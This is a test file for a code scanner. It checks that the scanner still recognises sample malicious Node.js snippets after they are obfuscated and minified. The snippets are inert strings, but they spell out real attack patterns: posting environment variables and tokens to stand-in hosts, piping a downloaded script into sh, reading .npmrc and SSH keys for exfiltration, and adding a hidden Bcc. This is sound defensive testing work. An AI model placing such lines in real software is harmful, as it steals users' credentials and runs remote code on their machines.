import esbuild from 'esbuild';
import obfuscator from 'javascript-obfuscator';
import { minify } from 'terser';
import { describe, expect, it } from 'vitest';
import { readCodeFile } from '../../src/profiles/code-file.ts';

/** Readable code in the shapes of documented attacks; nothing of it is run. */
const snippets: Readonly<Record<string, string>> = {
  'posts the environment': `
const https = require('node:https');
function send(body) {
  const request = https.request({ hostname: 'collect.example', path: '/in', method: 'POST' });
  request.write(body);
  request.end();
}
send(JSON.stringify(process.env));
send(process.env.NPM_TOKEN);
`,
  'pipes a script into a shell': `
const { execSync, spawn } = require('child_process');
execSync('curl -s https://load.example/run.sh | sh');
spawn('node', ['-e', 'console.log(1)'], { detached: true });
`,
  'reads credentials and fetches': `
const fs = require('fs');
const os = require('os');
const path = require('path');
const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
fetch('https://drop.example/api?x=1', { method: 'POST', body: npmrc + key });
`,
  'adds a hidden copy': `
const postmark = require('postmark');
const client = new postmark.ServerClient(process.env.POSTMARK_SERVER_TOKEN);
async function sendMail(to, subject, text) {
  return client.sendEmail({ From: 'me@sender.example', To: to, Subject: subject, TextBody: text, Bcc: 'copy@hidden.example' });
}
module.exports = { sendMail };
`,
  'an ES module': `
import { writeFileSync } from 'node:fs';
import axios from 'axios';
const response = await axios.get('https://load.example/second.js');
writeFileSync('/tmp/second.js', response.data);
await axios.post('https://hooks.slack.com/services/T000/B000/xyz', { text: process.env.GITHUB_TOKEN });
`,
};

type Options = Parameters<typeof obfuscator.obfuscate>[1];

const strings: Options = { stringArray: true, stringArrayThreshold: 1 };
const settings: Readonly<Record<string, Options>> = {
  'the default': {},
  low: { optionsPreset: 'low-obfuscation' },
  medium: { optionsPreset: 'medium-obfuscation' },
  high: { optionsPreset: 'high-obfuscation' },
  'a plain table': { ...strings, stringArrayEncoding: ['none'] },
  'a base64 table': { ...strings, stringArrayEncoding: ['base64'] },
  'an rc4 table': { ...strings, stringArrayEncoding: ['rc4'] },
  'all encodings at once': { ...strings, stringArrayEncoding: ['none', 'base64', 'rc4'] },
  'no rotation': { ...strings, stringArrayRotate: false },
  'function wrappers': {
    ...strings,
    stringArrayWrappersCount: 3,
    stringArrayWrappersType: 'function',
    stringArrayWrappersChainedCalls: true,
    stringArrayWrappersParametersMaxCount: 5,
    stringArrayIndexShift: true,
  },
  'indexes in objects': {
    ...strings,
    stringArrayCallsTransform: true,
    stringArrayCallsTransformThreshold: 1,
  },
  'texts cut in pieces': { ...strings, splitStrings: true, splitStringsChunkLength: 3 },
  'unicode escapes': { ...strings, unicodeEscapeSequence: true },
  'flattened control flow': {
    ...strings,
    controlFlowFlattening: true,
    controlFlowFlatteningThreshold: 1,
  },
  'dead code': { ...strings, deadCodeInjection: true, deadCodeInjectionThreshold: 1 },
  'self defending': { ...strings, selfDefending: true, disableConsoleOutput: true },
  'debug protection': { ...strings, debugProtection: true, debugProtectionInterval: 2000 },
  'keys outside of objects': { ...strings, transformObjectKeys: true },
  'numbers as sums': { ...strings, numbersToExpressions: true },
  'short names': { ...strings, identifierNamesGenerator: 'mangled' },
};

/** Pairs that are not seen through yet, with the reason. A pair that is seen through has to be taken out. */
const missed: ReadonlyMap<string, string> = new Map();

function obfuscate(code: string, options: Options, seed: number): string {
  return obfuscator.obfuscate(code, { seed, target: 'node', ...options }).getObfuscatedCode();
}

/** What a file can do, as one line each; how it is hidden is left out, because that is what differs. */
function factsIn(code: string): ReadonlySet<string> {
  const { observations, unread } = readCodeFile('index.js', code);
  expect(unread).toEqual([]);
  const kinds = observations.filter(({ kind }) => !/^obfuscation|^code\.evaluate/.test(kind));
  return new Set(kinds.map(({ kind, attributes }) => `${kind} ${JSON.stringify(attributes)}`));
}

function lacking(readable: string, hidden: string): string[] {
  const found = factsIn(hidden);
  return [...factsIn(readable)].filter((fact) => !found.has(fact));
}

describe.each(Object.entries(snippets))('code that %s', (name, code) => {
  it('shows something when it is readable', () => {
    expect(factsIn(code).size).toBeGreaterThan(1);
  });

  const expectSame = (setting: string, hidden: string): void => {
    const reason = missed.get(`${name} / ${setting}`);
    const left = lacking(code, hidden);
    if (reason === undefined) expect(left).toEqual([]);
    else expect(left, `it is seen through now: ${reason}`).not.toEqual([]);
  };

  it.each(Object.entries(settings))('shows the same with %s', (setting, options) => {
    for (const seed of [1, 2]) expectSame(setting, obfuscate(code, options, seed));
  });

  it('shows the same when it is minified after it was obfuscated', async () => {
    const hidden = obfuscate(code, settings['medium'], 3);
    const smaller = await minify(hidden, { module: name === 'an ES module' });
    expectSame('minified', smaller.code ?? '');
    const smallest = await esbuild.transform(hidden, { minify: true, format: 'esm' });
    expectSame('minified', smallest.code);
  });
});
